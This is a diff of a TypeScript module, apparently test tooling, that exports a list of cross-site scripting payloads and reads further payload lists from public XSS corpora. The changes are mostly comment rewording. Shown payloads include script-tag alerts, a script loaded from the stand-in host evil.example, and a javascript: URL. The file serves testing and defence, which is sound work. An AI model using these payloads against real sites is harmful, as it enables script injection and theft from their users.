@@ -1,8 +1,8 @@
-// Texts that attack a browser: a short list of classes, and the lines of corpora that the caller names.
+// Texts that attack a browser: a short list with examples of each kind, and collections of attacks by others, which the caller names.
 import { existsSync, readFileSync } from "node:fs";
 import { join } from "node:path";
 
-/** One or more of each class: elements, handlers, addresses, broken markup, old browsers, foreign content, plain fields. */
+/** At least one attack of each kind: elements, event handlers, addresses, broken markup, old browsers, SVG and MathML, plain fields. */
 export const attacks: readonly string[] = [
   "<script>alert(1)</script>",
   "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
@@ -76,13 +76,13 @@ export const attacks: readonly string[] = [
   '{{< figure src="javascript:alert(1)" >}}',
 ];
 
-/** A line each, in these files below the caller's folder. */
+/** Files in the caller's folder. Each line of them is an attack. */
 const corpora = [
   "cure53+H5SC/vectors.txt",
   "payloadbox+xss-payload-list/Intruder/xss-payload-list.txt",
 ] as const;
 
-/** @param folder with the repositories as OWNER+NAME; absent ones are named in `missing` */
+/** @param folder the folder that contains the repositories, as OWNER+NAME. Those that are not there are listed in `missing` */
 export function readCorpora(folder: string): {
   readonly texts: readonly string[];
   readonly missing: readonly string[];
